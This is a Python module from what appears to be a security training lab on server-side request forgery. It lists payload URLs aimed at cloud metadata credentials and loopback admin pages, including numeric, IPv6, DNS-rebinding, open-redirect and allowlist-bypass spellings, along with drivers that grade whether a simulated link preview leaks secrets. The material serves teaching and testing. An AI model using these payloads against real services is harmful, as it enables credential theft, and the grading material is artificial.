"""Server-Side Request Forgery: the public payloads and the attack drivers that judge success.

Every payload is a URL an attacker types into the link preview. The metadata service's
credentials sit at ``METADATA_URL``; the admin console's password at ``ADMIN_URL``. The
payload lists group the tricks the lesson shows, section by section; the hidden corpus
of exercise 10_ssrf (``autograder/hidden/10_ssrf.json``) holds many more.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from seclab.attacks import AttackResult
from seclab.topics.ssrf.targets import CREDENTIALS_PATH, DemoWorld

METADATA_URL = f"http://169.254.169.254{CREDENTIALS_PATH}"
ADMIN_URL = "http://127.0.0.1/admin"

#: What a blocklist of spellings does catch.
PLAIN_INTERNAL: list[tuple[str, str]] = [
    ("metadata address", METADATA_URL),
    ("loopback address", ADMIN_URL),
    ("localhost", "http://localhost/admin"),
    ("LOCALHOST", "http://LOCALHOST/admin"),
    ("IPv6 loopback", "http://[::1]/admin"),
    ("Google's metadata name", "http://metadata.google.internal" + CREDENTIALS_PATH),
]
PLAIN_INTERNAL_URLS: list[str] = [url for _label, url in PLAIN_INTERNAL]

#: One address, many spellings: every form ``socket.inet_aton`` (and so getaddrinfo) accepts.
NUMERIC_FORMS: list[tuple[str, str]] = [
    ("decimal 169.254.169.254", f"http://2852039166{CREDENTIALS_PATH}"),
    ("hexadecimal 169.254.169.254", f"http://0xa9fea9fe{CREDENTIALS_PATH}"),
    ("octal 169.254.169.254", f"http://0251.0376.0251.0376{CREDENTIALS_PATH}"),
    ("decimal 127.0.0.1", "http://2130706433/admin"),
    ("hex and short 127.0.0.1", "http://0x7f.1/admin"),
    ("octal 127.0.0.1", "http://0177.0.0.1/admin"),
    ("short 127.0.0.1", "http://127.1/admin"),
    ("0.0.0.0, short", "http://0/admin"),
]

#: IPv6 spellings of the same internal machines.
IPV6_FORMS: list[tuple[str, str]] = [
    ("IPv6 loopback, written out", "http://[0:0:0:0:0:0:0:1]/admin"),
    ("IPv6 unspecified address", "http://[::]/admin"),
    ("IPv4-mapped IPv6", f"http://[::ffff:169.254.169.254]{CREDENTIALS_PATH}"),
    ("IPv4-mapped IPv6, in hex", f"http://[::ffff:a9fe:a9fe]{CREDENTIALS_PATH}"),
    ("NAT64 IPv6", f"http://[64:ff9b::a9fe:a9fe]{CREDENTIALS_PATH}"),
    ("AWS's IPv6 metadata address", f"http://[fd00:ec2::254]{CREDENTIALS_PATH}"),
]

#: Names that lead inside: a trailing dot, and an attacker's DNS record.
NAME_TRICKS: list[tuple[str, str]] = [
    ("trailing dot", "http://localhost./admin"),
    ("attacker's DNS name", f"http://metadata.attacker.example{CREDENTIALS_PATH}"),
]

#: The public site's open redirect, pointed at the metadata service.
OPEN_REDIRECT_URL = f"http://www.public.example/go?to=http://169.254.169.254{CREDENTIALS_PATH}"
REDIRECTS: list[tuple[str, str]] = [("open redirect on the public site", OPEN_REDIRECT_URL)]

#: A name whose first answer is public and every later one the metadata service.
REBINDING_URL = f"http://rebind.attacker.example{CREDENTIALS_PATH}"

#: Against an allowlist written as a string prefix.
PREFIX_TRICKS: list[tuple[str, str]] = [
    ("userinfo", f"http://www.public.example@169.254.169.254{CREDENTIALS_PATH}"),
    ("longer name", f"http://www.public.example.attacker.example{CREDENTIALS_PATH}"),
]

BLOCKLIST_BYPASSES: list[tuple[str, str]] = NUMERIC_FORMS + IPV6_FORMS + NAME_TRICKS + REDIRECTS
ALL_PAYLOADS: list[tuple[str, str]] = (PLAIN_INTERNAL + BLOCKLIST_BYPASSES + [("DNS rebinding", REBINDING_URL)]
                                       + PREFIX_TRICKS)

#: Honest URLs every preview must still show.
HONEST_URLS: list[str] = [
    "http://www.public.example/",
    "https://www.public.example/article",
    "http://www.public.example/moved",
    "http://93.184.216.34/",
    "http://[2606:2800:220:1:248:1893:25c8:1946]/article",
    "http://www.public.example/go?to=/article",
]

Preview = Callable[[str, DemoWorld], dict[str, Any]]


def _shorten(text: str, limit: int = 90) -> str:
    return text if len(text) <= limit else text[: limit - 1] + "…"


def fetch(preview: Preview, url: str, world: DemoWorld, secrets: tuple[str, ...]) -> AttackResult:
    """Run ``preview(url, world)`` once (fresh DNS state); succeeded when one of ``secrets`` came back."""
    world.dns.reset()
    world.client.trace.clear()
    try:
        summary = preview(url, world)
    except Exception as error:  # refused, or the fetch failed: either way nothing leaked
        return AttackResult(url, False, _shorten(f"refused: {type(error).__name__}: {error}"))
    shown = str(summary)
    if world.metadata_secret in secrets and world.metadata_secret in shown:
        return AttackResult(url, True, f"leaked the metadata credentials ({world.metadata_secret[:20]}…)")
    if world.admin_secret in secrets and world.admin_secret in shown:
        return AttackResult(url, True, f"leaked the admin console's password ({world.admin_secret[:24]}…)")
    return AttackResult(url, False, _shorten(f"HTTP {summary['status']} {summary['title'] or summary['text']!r}"))


def steal_secret(preview: Preview, url: str, world: DemoWorld) -> AttackResult:
    """Does ``url`` make ``preview`` show the metadata credentials or the admin password?"""
    return fetch(preview, url, world, (world.metadata_secret, world.admin_secret))


def steal_metadata(preview: Preview, url: str, world: DemoWorld) -> AttackResult:
    """Does ``url`` make ``preview`` show the metadata service's credentials? (the exploit challenge)"""
    return fetch(preview, url, world, (world.metadata_secret,))


def attack_table(preview: Preview, payloads: list[tuple[str, str]], world: DemoWorld) -> list[tuple[str, AttackResult]]:
    """``steal_secret`` for each (label, url)."""
    return [(label, steal_secret(preview, url, world)) for label, url in payloads]


def show_table(rows: list[tuple[str, AttackResult]]) -> str:
    """The results as aligned text lines (label, verdict, evidence)."""
    width = max((len(label) for label, _ in rows), default=0)
    return "\n".join(f"{label:<{width}}  {'LEAKED' if result.succeeded else 'safe  '}  {result.evidence}"
                     for label, result in rows)
